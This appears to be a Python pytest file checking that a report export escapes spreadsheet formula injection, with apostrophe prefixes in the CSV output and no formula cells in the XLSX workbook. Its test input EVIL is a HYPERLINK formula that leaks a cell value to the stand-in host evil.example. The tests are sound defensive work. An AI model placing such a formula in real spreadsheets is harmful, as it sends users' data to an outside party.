"""Formula injection: no export meant for a spreadsheet lets a typed text become a formula."""

import csv
import io

import openpyxl
import pytest

from core.spreadsheets import safe_cell
from reporting.exports import report_csv, report_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&C2,"Open")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Peeters", "", None, -5, 3.5, "2024-01"])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def evil_report():
    return {
        "organisation": EVIL,
        "period": {"from": "2024-01", "to": "2024-12"},
        "reference_month": "2025-01",
        "as_of": "2025-06-30",
        "statistics": {},
        "definitions": {"caseload": EVIL},
        "definitions_en": {"caseload": "-1+1"},
    }


def test_the_council_report_csv_neutralises_formulas():
    rows = list(csv.reader(io.StringIO(report_csv(evil_report()))))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert "'-1+1" in cells
    assert EVIL not in cells


def test_the_council_report_xlsx_holds_no_formula():
    workbook = openpyxl.load_workbook(io.BytesIO(report_xlsx(evil_report())))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + EVIL in [cell.value for cell in cells]
